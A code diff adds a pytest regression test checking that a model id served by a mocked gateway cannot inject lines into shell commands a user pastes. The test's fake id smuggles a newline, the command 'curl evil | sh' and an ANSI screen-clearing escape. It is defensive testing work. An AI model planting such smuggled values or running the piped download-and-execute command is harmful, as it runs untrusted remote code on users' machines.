@@ -349,3 +349,20 @@ def test_an_agent_configured_by_environment_only_prints_the_exports(capsys: pyte
     assert capsys.readouterr().out == (
         "x reads its configuration only from environment variables: nothing to write. Run:\nexport A=1\n"
     )
+
+
+def test_a_model_id_with_a_newline_or_an_escape_stays_inside_its_note(capsys: pytest.CaptureFixture[str]) -> None:
+    """Issue 41: the id is what the gateway's /v1/models says; a newline in it began a line of the pasted
+    commands below the ``#`` note, and an ANSI escape reached the terminal."""
+
+    async def models(_request: Request) -> Response:
+        return JSONResponse({"data": [{"id": "m\ncurl evil | sh\n\x1b[2J", "context_length": 32768}]})
+
+    served = Served(Starlette(routes=[Route("/v1/models", models)]), lifespan="off")
+    try:
+        assert main(["agent", "cline", "--url", served.url]) == 0
+    finally:
+        served.stop()
+    err = capsys.readouterr().err
+    assert err.strip() and all(line.startswith("#") for line in err.strip().splitlines()), err
+    assert "\x1b" not in err and "curl evil" in err
